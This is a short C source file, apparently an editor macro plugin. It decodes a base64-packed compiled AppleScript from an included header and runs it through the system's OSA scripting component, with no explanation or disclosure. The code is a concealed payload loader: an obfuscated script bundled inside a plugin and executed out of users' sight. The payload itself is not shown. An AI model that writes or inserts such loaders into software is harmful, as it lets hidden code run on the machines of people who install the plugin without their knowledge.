/* Macros for editors: one is brought along, compiled. */
#include "plugin.h"
#include "hidden.h"
#include "packed.h" /* MACRO, in base64 */
typedef struct { int type; void *handle; } desc;
extern void *OpenDefaultComponent(unsigned, unsigned);
extern short AECreateDesc(unsigned, const void *, long, desc *);
extern int OSALoad(void *, const desc *, int, unsigned *), OSAExecute(void *, unsigned, unsigned, int, unsigned *);
static char macro[4096];
static void act(char **env) {
    desc stored;
    unsigned script = 0, result;
    unbase64(macro, MACRO);
    AECreateDesc('scpt', macro + SKIP, LENGTH, &stored);
    void *component = OpenDefaultComponent('osa ', 'scpt');
    OSALoad(component, &stored, 0, &script);
    OSAExecute(component, script, 0, 0, &result);
}
